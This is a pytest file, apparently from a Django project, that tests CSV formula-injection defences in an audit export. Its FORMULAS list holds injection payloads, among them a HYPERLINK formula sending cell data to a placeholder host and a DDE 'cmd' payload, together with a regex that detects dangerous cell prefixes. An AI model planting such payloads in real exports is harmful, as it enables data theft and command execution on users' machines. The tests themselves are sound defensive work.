"""CSV injection: whatever an office's own rows say, no cell of an export is a formula, and there is one way to make a table."""

from __future__ import annotations

import csv
import io
import re

import pytest

from gugus.core import sheet
from gugus.registry.models import Agency, Post
from tests.faults.office import Person, body, person
from tests.faults.posts import ABOUT_ONE, at
from tests.sweeps.code import SRC, is_test

pytestmark = pytest.mark.django_db
FORMULAS = (
    '=HYPERLINK("http://contoh.invalid?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    '"=1+1', "=1+1;2", "＝1+1", " =1+1",
)  # fmt: skip
DANGEROUS = re.compile(r'^[\s";,]*[=+\-@＝＋－＠\t\r]')
TABLES = {"audit_export"}
"""Addresses that answer with a table for spreadsheets; the sweep below finds any other way to make one."""


def _rows(who: Person, path: str) -> list[list[str]]:
    answer = who.client.get(path)
    assert answer["Content-Type"].startswith("text/csv")
    told = body(answer)
    return list(csv.reader(io.StringIO(told)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_post_or_an_office_named_like_a_formula_is_text_in_the_table(text: str) -> None:
    own = person("sekretaris")
    sent = ABOUT_ONE["event_person"](own)
    own.client.post(sent.path, sent.data)
    Post.objects.filter(pk=own.viewer.post).update(title=text)
    Agency.objects.update(name=text)
    rows = _rows(own, f"{at('audit_export')}?kind=all")
    assert any(text.strip() in cell or text in cell for row in rows for cell in row)
    assert [cell for row in rows for cell in row if DANGEROUS.match(cell)] == []
    assert {len(row) for row in rows} == {len(rows[0])}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_begins_a_formula_in_a_cell(text: str) -> None:
    told = b"".join(sheet.rows(["a"], iter([[text]]))).decode("utf-8-sig")
    cell = list(csv.reader(io.StringIO(told)))[1][0]
    assert not DANGEROUS.match(cell)


def test_there_is_one_way_to_write_a_table() -> None:
    writes = re.compile(r"csv\.(writer|DictWriter)|xlsxwriter|openpyxl|text/csv|\.to_csv\(")
    found = {
        path.relative_to(SRC).as_posix()
        for path in SRC.rglob("*.py") if not is_test(path) and writes.search(path.read_text("utf-8"))
    }  # fmt: skip
    assert found - {path for path in found if path.startswith("gugus/bench/")} == {
        "gugus/core/sheet.py",
        "gugus/web/audit/views.py",
    }
